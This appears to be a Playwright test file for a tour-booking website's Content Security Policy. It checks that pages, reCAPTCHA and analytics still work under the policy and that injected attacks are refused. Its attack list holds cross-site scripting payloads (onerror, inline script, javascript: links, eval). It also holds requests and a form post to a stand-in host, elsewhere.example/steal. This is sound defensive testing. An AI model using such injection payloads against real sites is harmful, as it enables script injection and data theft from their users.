import type { Page } from 'playwright/test';
import { botCheckSecondStage } from './bot-check-stand-in';
import { firstTourPath } from './content';
import {
  ANALYTICS,
  atRest,
  BOT_CHECK_SECOND_STAGE,
  dataLayer,
  expect,
  expectEvent,
  openReady,
  script,
  test,
} from './fixtures';
import * as form from './form';

const elsewhere = 'https://elsewhere.example';
/** Pages with different styles. The last one needs the most. */
const pages = ['/boat-hire', firstTourPath, '/', '/contact'];

/** The computed styles of the parts of the page. */
function appearance(page: Page) {
  return page.locator('main').evaluate((main) =>
    [...main.querySelectorAll('h1, h2, h3, p, a, img, ul, dl, form button')].map((part) => {
      const { display, fontSize, color, padding, gridTemplateColumns, position } = getComputedStyle(part);
      return `${part.tagName} ${[display, fontSize, color, padding, gridTemplateColumns, position].join(' | ')}`;
    }),
  );
}

/** Follows a link without loading a document. Every page has a link in the footer or in the list of tours. */
async function followLink(page: Page, path: string) {
  await page.locator(`a[href="${path}"]`).first().dispatchEvent('click');
  await expect(page).toHaveURL(new RegExp(`${path}$`));
}

// A refusal is an error on the console, and every journey fails on one (fixtures.ts).
test('the policy refuses nothing on pages behind links, and all their styles apply', async ({ page }) => {
  const loaded = new Map<string, string[]>();
  for (const path of pages) {
    await page.goto(path);
    // Wait for late parts, such as the reviews.
    await atRest(page);
    loaded.set(path, await appearance(page));
  }
  for (const path of pages) {
    await followLink(page, path);
    await expect.poll(() => appearance(page), { intervals: [50] }).toEqual(loaded.get(path));
  }
});

test('bot check, e-mail and analytics work under the policy of another page', async ({ page, emails }) => {
  const frame = 'https://www.google.com/recaptcha/api2/anchor?k=6L';
  const collect = 'https://region1.google-analytics.com/g/collect?v=2';
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  await page.route(frame, (route) =>
    route.fulfill({ contentType: 'text/html', body: '<p>I am the frame</p>' }),
  );
  await page.route(`${collect}**`, (route) => route.fulfill({ status: 204 }));
  await page.route('https://www.google.com/recaptcha/api2/clr', (route) => route.fulfill(script('')));
  const framed = botCheckSecondStage().replace(
    '<iframe hidden>',
    `<iframe title="bot check" src="${frame}">`,
  );
  await page.route(BOT_CHECK_SECOND_STAGE, (route) =>
    route.fulfill(script(`${framed}; fetch('https://www.google.com/recaptcha/api2/clr')`)),
  );
  await page.route(ANALYTICS, (route) =>
    route.fulfill(script(`navigator.sendBeacon('${collect}'); new Image().src = '${collect}&pixel'`)),
  );

  await openReady(page, '/faq');
  await page.mouse.move(50, 50);
  await followLink(page, '/contact');
  await expect(page.getByText('protected by reCAPTCHA')).toHaveCSS('position', 'fixed');
  await expect(page.frameLocator('iframe[title="bot check"]').getByText('I am the frame')).toBeAttached();
  await form.send(page);
  await form.expectSuccess(page);
  expect(emails).toHaveLength(1);

  for (const name of ['page_view', 'enquiry_success'])
    await expectEvent(page, expect.objectContaining({ name }));
  const commands = (await dataLayer(page)).map(([command]) => command);
  expect(commands).toEqual(expect.arrayContaining(['js', 'config', 'event']));
  expect(requests).toEqual(expect.arrayContaining([collect, `${collect}&pixel`]));
});

/** Attacks with injected HTML or script, and what refuses each. An attack sets `ran` if it succeeds. */
const attacks: readonly [name: string, refusal: string, attack: string | (() => void)][] = [
  ['an event-handler attribute', 'script-src-attr inline', '<img src="data:," onerror="window.ran = true">'],
  ['a foreign picture', `img-src ${elsewhere}/p.gif`, `<img src="${elsewhere}/p.gif">`],
  [
    'a foreign style',
    `style-src-elem ${elsewhere}/x.css`,
    `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  ],
  ['a foreign frame', `frame-src ${elsewhere}`, `<iframe src="${elsewhere}/"></iframe>`],
  ['another base for every address', `base-uri ${elsewhere}/`, `<base href="${elsewhere}/">`],
  ['an injected inline script', 'script-src-elem inline', '<script>window.ran = true</script>'],
  ['a foreign script', `script-src-elem ${elsewhere}/x.js`, `<script src="${elsewhere}/x.js"></script>`],
  ['an address that is a script', 'script-src-elem inline', '<a href="javascript:window.ran=true">Press</a>'],
  ['words that become a script', 'script-src eval', () => void setTimeout('window.ran = true')],
  [
    'a foreign request',
    `connect-src ${elsewhere}/collect`,
    () => void fetch('https://elsewhere.example/collect', { method: 'POST', body: 'words' }).catch(() => {}),
  ],
  [
    'a form posted elsewhere',
    `form-action ${elsewhere}/steal`,
    `<form method="post" action="${elsewhere}/steal"><button>Send</button></form>`,
  ],
];

/** Adds HTML to the page and runs its scripts, then presses its link or button. Runs in the page. */
function inject(html: string) {
  const parts = document.createRange().createContextualFragment(html);
  const control = parts.querySelector<HTMLElement>('a, button');
  document.body.append(parts);
  control?.click();
}

test('an injected script is refused', async ({ page, allowedMessages }) => {
  allowedMessages.push(/Content Security Policy/i, /net::ERR_BLOCKED_BY_CSP/);
  /** Everything that the policy refuses, as 'directive address'. */
  const refused: string[] = [];
  await page.exposeFunction('reportRefusal', (refusal: string) => refused.push(refusal));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      (window as unknown as { reportRefusal: (refusal: string) => void }).reportRefusal(
        `${effectiveDirective} ${blockedURI}`,
      ),
    );
  });
  await page.goto('/contact');
  const address = page.url();
  for (const [name, refusal, attack] of attacks) {
    await test.step(name, async () => {
      refused.splice(0);
      if (typeof attack === 'function') await page.evaluate(attack);
      else await page.evaluate(inject, attack);
      await expect.poll(() => refused).toContain(refusal);
      expect(await page.evaluate(() => 'ran' in window)).toBe(false);
      expect(page.url()).toBe(address);
    });
  }
});
